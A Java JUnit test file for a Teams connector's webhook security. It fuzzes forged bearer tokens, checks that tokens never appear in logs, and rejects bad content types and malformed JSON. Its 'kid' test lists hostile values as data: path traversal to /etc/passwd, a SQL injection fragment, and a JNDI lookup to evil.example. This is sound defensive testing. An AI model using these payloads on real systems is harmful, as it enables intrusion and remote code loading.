// SPDX-License-Identifier: Apache-2.0
package dev.muster.teams;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.muster.teams.client.Json;
import dev.muster.teams.fake.FakeKeys;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

/** A genuine call with anything changed in it is refused, and nothing of its token is told. */
final class ForgedTokensTest extends OnTeams {

  private static final long SEED = 20_261_122L;
  private static final int TIMES = 1_000;
  private static final String LETTERS =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

  private final Random random = new Random(SEED);

  /** Changes one to three places of a token: another letter, one more, one less, two swapped. */
  private String mutated(String token) {
    StringBuilder text = new StringBuilder(token);
    for (int i = 0; i <= random.nextInt(3); i++) {
      int at = random.nextInt(text.length() - 2);
      switch (random.nextInt(5)) {
        case 0 -> text.setCharAt(at, LETTERS.charAt(random.nextInt(LETTERS.length())));
        case 1 -> text.deleteCharAt(at);
        case 2 -> text.insert(at, LETTERS.charAt(random.nextInt(LETTERS.length())));
        case 3 -> text.setCharAt(at, (char) (1 + random.nextInt(0x7f)));
        default -> text.replace(at, at + 2, text.charAt(at + 1) + "" + text.charAt(at));
      }
    }
    return text.toString();
  }

  @Test
  void token_changedAThousandTimes_isAlwaysRefusedAndNeverTold() {
    Logger all = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    Logger ours = (Logger) LoggerFactory.getLogger("dev.muster.teams");
    Level before = ours.getLevel();
    ListAppender<ILoggingEvent> log = new ListAppender<>();
    log.start();
    all.addAppender(log);
    ours.setLevel(Level.DEBUG);
    try {
      refuseAll(ground.writes("ada", "let me in"));
    } finally {
      ours.setLevel(before);
      all.detachAppender(log);
    }
    String signature = signature(ground.pushes().authorization());
    long told =
        log.list.stream()
            .map(line -> line.getFormattedMessage() + line.getThrowableProxy())
            .filter(line -> line.contains(signature.substring(40, 80)) || line.contains("eyJ"))
            .count();
    assertEquals(0, told);
    assertTrue(log.list.size() > TIMES * 9 / 10, "refusals are logged by their reason");
  }

  private static String signature(String header) {
    return header.substring(header.lastIndexOf('.') + 1);
  }

  /** The last letter is left alone: it carries bits that no byte of the signature uses. */
  private void refuseAll(ObjectNode message) {
    String genuine = ground.pushes().authorization().substring("Bearer ".length());
    byte[] body = Json.bytes(message);
    Set<Integer> answers = new TreeSet<>();
    List<String> passed = new ArrayList<>();
    for (int i = 0; i < TIMES; i++) {
      String forged = mutated(genuine);
      if (forged.equals(genuine)) {
        continue;
      }
      int status = status(ground.raw(body, Map.of("Authorization", "Bearer " + forged)));
      answers.add(status);
      if (status != 401) {
        passed.add(forged);
      }
    }
    assertEquals(List.of(), passed, "seed " + SEED + " answered " + answers);
    assertEquals(0, inbox.deliveries().size());
  }

  @Test
  void keyId_trickySpelling_isAMapKeyAndNothingElse() {
    for (String kid :
        new String[] {
          "../../etc/passwd",
          "/dev/null",
          "connector-1\u0000",
          "CONNECTOR-1",
          " connector-1",
          "connector-1' or '1'='1",
          "https://evil.example/key",
          "${jndi:ldap://evil.example}",
          "%2e"
        }) {
      ObjectNode header = Json.object().put("alg", "RS256").put("typ", "JWT").put("kid", kid);
      String token =
          FakeKeys.connector().sign(header.toString(), ground.pushes().claims().toString());

      assertEquals(401, status(ground.push(ground.writes("ada", "x"), "Bearer " + token)), kid);
    }
  }

  @Test
  void contentType_otherThanJson_isRefusedAfterTheToken() {
    byte[] body = Json.bytes(ground.writes("ada", "x"));
    String genuine = ground.pushes().authorization();
    for (String type : new String[] {"text/plain", "application/x-www-form-urlencoded", "", "x"}) {
      assertEquals(
          415, status(ground.raw(body, Map.of("Authorization", genuine, "Content-Type", type))));
      assertEquals(401, status(ground.raw(body, Map.of("Content-Type", type))));
    }
    for (String type : new String[] {"application/json", "Application/JSON; charset=utf-8"}) {
      assertEquals(
          200, status(ground.raw(body, Map.of("Authorization", genuine, "Content-Type", type))));
    }
    assertEquals(1, inbox.deliveries().size());
  }

  @Test
  void body_thatIsNoUsableJson_isRefusedAndNothingBreaks() {
    Map<String, String> genuine = Map.of("Authorization", ground.pushes().authorization());
    String open = "{\"type\":\"message\",\"channelId\":\"msteams\",\"serviceUrl\":\"";
    for (String text :
        new String[] {
          "null",
          "\"x\"",
          "{\"a\":NaN}",
          "{a:1}",
          "{\"a\":1e999999}",
          "{\"a\":" + "9".repeat(500) + "}",
          "{\"a\":".repeat(200) + "1" + "}".repeat(200),
          open,
          "\u0000",
          "\ufeff{}"
        }) {
      int status = status(ground.raw(text.getBytes(StandardCharsets.UTF_8), genuine));
      assertTrue(status == 400 || status == 401, text + " -> " + status);
    }
    byte[] noUtf8 = {'{', '"', (byte) 0xc3, (byte) 0x28, '"', ':', '1', '}'};
    assertEquals(400, status(ground.raw(noUtf8, genuine)));
    assertEquals(401, status(ground.raw("{}".getBytes(StandardCharsets.UTF_16BE), genuine)));
  }
}
